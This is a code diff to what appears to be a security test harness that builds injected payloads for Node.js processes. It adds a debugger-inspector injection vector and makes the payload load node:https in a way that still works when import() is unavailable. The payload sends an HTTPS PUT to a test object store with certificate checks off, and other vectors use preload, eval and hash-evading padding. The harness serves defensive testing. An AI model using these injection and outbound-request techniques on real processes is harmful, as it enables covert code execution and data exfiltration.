@@ -35,17 +35,23 @@ export interface AttackKit {
     preload: string;
     /** Source for `node --eval=<code>`. */
     evalCode: string;
+    /** Source the debugger runs inside the victim. */
+    inspectorCode: string;
   };
   /** A copy of `program` with 200 MB of sparse padding: slow to hash, instant to make. Removed by cleanup(). */
   padded(program: string, name: string): Promise<string>;
   cleanup(): Promise<void>;
 }
 
-/** The evil payload: one PutObject of attacks/<object>, certificate unchecked, result on stdout. */
+/**
+ * The evil payload: one PutObject of attacks/<object>, certificate unchecked, result on stdout.
+ * node:https comes from process.getBuiltinModule where there is one (it also works where import()
+ * does not, e.g. code evaluated through the inspector).
+ */
 export function evilSource(object: string): string {
   const body = `written by injected code as ${object}\n`;
   return [
-    `import('node:https').then(({ default: https }) => {`,
+    `(process.getBuiltinModule ? Promise.resolve({ default: process.getBuiltinModule('node:https') }) : import('node:https')).then(({ default: https }) => {`,
     `  const report = (r) => process.stdout.write(JSON.stringify({ event: 'request', pid: process.pid, object: ${JSON.stringify(object)}, ...r }) + '\\n');`,
     `  const req = https.request({ host: ${JSON.stringify(OS_HOST)}, method: 'PUT', path: '/n/sigiltest/b/attacks/o/${object}', agent: false, rejectUnauthorized: false,`,
     `    headers: { 'x-test-tag': ${JSON.stringify(object)}, 'content-type': 'text/plain', 'content-length': ${Buffer.byteLength(body)} } },`,
@@ -72,6 +78,7 @@ export async function prepareKit(): Promise<AttackKit> {
       disableWarning: await evilFile('evil-disable-warning.cjs', 'evil-disable-warning'),
       preload: await evilFile('evil-preload.cjs', 'evil-ld-preload'),
       evalCode: evilSource('evil-eval'),
+      inspectorCode: evilSource('evil-inspector'),
     };
     const bin = await buildAttacks(dir, { evilRequire: evil.preload });
     const victimFile = path.join(dir, 'attack-victim.mjs');
